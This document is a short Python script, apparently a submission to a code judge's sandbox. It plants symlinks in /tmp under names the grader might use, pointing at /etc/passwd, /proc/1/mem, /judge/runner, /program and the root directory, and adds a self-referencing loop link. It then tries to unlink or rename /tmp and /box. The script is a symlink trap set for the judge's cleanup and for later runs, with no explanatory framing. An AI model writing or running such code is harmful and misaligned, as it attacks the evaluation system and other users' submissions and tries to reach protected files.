import os

# Links in place of what the next run, or whoever empties the directory, may follow.
print(sorted(os.listdir("/tmp")))
for name, target in (
    ("main.py", "/etc/passwd"),
    ("input", "/proc/1/mem"),
    ("hsperfdata_submission", "/program"),
    ("cc.s", "/judge/runner"),
    ("dir", "/"),
    ("loop", "loop"),
    (".up0", "/program"),
):
    os.symlink(target, f"/tmp/{name}")
os.mkdir("d")
os.symlink("/program", "d/program")
os.symlink("../..", "d/up")
os.chmod("d", 0o500)
for action in (lambda: os.unlink("/tmp"), lambda: os.rename("/tmp", "/box/t"), lambda: os.rename("/box", "/gone"), lambda: os.rmdir("/box")):
    try:
        action()
        print("moved")
    except OSError:
        pass
